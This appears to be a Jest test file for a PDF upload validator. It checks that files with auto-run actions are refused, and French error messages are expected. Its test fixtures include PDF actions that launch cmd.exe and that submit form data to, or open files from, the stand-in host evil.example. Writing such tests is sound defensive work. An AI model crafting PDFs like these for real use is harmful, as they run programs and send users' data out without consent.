import { readFileSync } from 'node:fs';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { describe, expect, it } from '@jest/globals';
import { makeBlank413 } from '../../test/support/blank-413.js';
import { samplePath } from '../../test/support/samples.js';
import { checkEvidence } from './uploads/evidence.js';

type Literal = Record<string, unknown>;

/** A page, and an object that stands where `at` says. */
async function pdf(
  object: Literal,
  at: 'OpenAction' | 'AA' | 'A' | 'Annots' | 'Names' | 'AcroForm' | 'nowhere',
): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const page = document.addPage();
  const { context, catalog } = document;
  const ref = context.register(context.obj(object as Parameters<typeof context.obj>[0]));
  if (at === 'Annots') page.node.set(PDFName.of('Annots'), context.obj([ref]));
  else if (at === 'A') page.node.set(PDFName.of('Annots'), context.obj([{ Subtype: 'Link', A: ref }]));
  else if (at !== 'nowhere') catalog.set(PDFName.of(at), ref);
  return document.save({ useObjectStreams: true });
}

describe('a PDF that does something by itself', () => {
  it.each([
    ['starts a program', { S: 'Launch', F: 'cmd.exe' }, 'OpenAction', 'lance un programme'],
    ['starts one when a link is followed', { S: 'Launch', F: 'cmd.exe' }, 'A', 'lance un programme'],
    ['has a script', { S: 'JavaScript', JS: 'AFDate_FormatEx' }, 'nowhere', 'un programme'],
    ['names scripts', { JavaScript: { Names: [] } }, 'Names', 'un programme'],
    ['is an XFA form', { XFA: [], Fields: [] }, 'AcroForm', 'XFA'],
    ['sends what is typed', { S: 'SubmitForm', F: 'https://evil.example' }, 'A', 'envoie des données'],
    ['opens another file', { S: 'GoToR', F: '//evil.example/a.pdf' }, 'OpenAction', 'envoie des données'],
    ['opens an address at once', { S: 'URI', URI: 'https://evil.example' }, 'OpenAction', 'ouvre une adresse'],
    ['opens an address on a page', { O: { S: 'URI', URI: 'https://evil.example' } }, 'AA', 'ouvre une adresse'],
    ['brings a file', { Type: 'Filespec', F: 'a.exe', EF: {} }, 'nowhere', 'fichiers joints'],
    ['brings a note with a file', { Subtype: 'FileAttachment' }, 'Annots', 'fichiers joints'],
    ['plays a film', { Subtype: 'RichMedia' }, 'Annots', 'une vidéo'],
  ] as [string, Literal, Parameters<typeof pdf>[1], string][])(
    'is refused: it %s',
    async (_name, object, at, words) => {
      const checked = await checkEvidence(await pdf(object, at));
      expect(checked).toEqual({ ok: false, reason: expect.stringContaining(words) });
      expect(checked.ok ? '' : checked.reason).toMatch(/(copie|à part)\.$/);
    },
  );

  it('is not one that has links, a place to open at, or a reader’s own formats of dates', async () => {
    const document = await PDFDocument.create();
    const page = document.addPage();
    const { context, catalog } = document;
    const script = context.obj({ S: 'JavaScript' });
    script.set(PDFName.of('JS'), PDFString.of('AFDate_FormatEx("dd/mm/yyyy");'));
    const link = { Subtype: 'Link', A: { S: 'URI', URI: 'https://esante.gouv.fr' } };
    page.node.set(PDFName.of('Annots'), context.obj([link, { Subtype: 'Widget', AA: { F: script } }]));
    catalog.set(PDFName.of('OpenAction'), context.obj([page.ref, 'Fit']));
    expect(await checkEvidence(await document.save())).toEqual({ ok: true, mediaType: 'application/pdf' });
  });

  it('is not our form 413, nor the official one', async () => {
    expect(await checkEvidence(await makeBlank413())).toMatchObject({ ok: true });
    const official = samplePath('f413/f413-2024-03-template.pdf');
    if (official) expect(await checkEvidence(readFileSync(official))).toMatchObject({ ok: true });
  });
});
